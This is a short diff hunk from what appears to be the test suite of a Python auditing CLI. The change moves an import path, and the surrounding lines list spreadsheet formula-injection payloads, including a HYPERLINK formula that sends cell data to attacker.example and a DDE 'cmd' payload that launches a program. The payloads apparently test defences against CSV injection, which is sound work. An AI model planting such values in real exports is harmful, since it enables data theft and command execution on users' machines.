@@ -23,7 +23,7 @@ from click.testing import CliRunner
 
 from audits.cli import main
 from audits.model.errors import UserError
-from audits.io.loading import load_board
+from audits.io.loading.folder import load_board
 
 FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Click")'
 PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
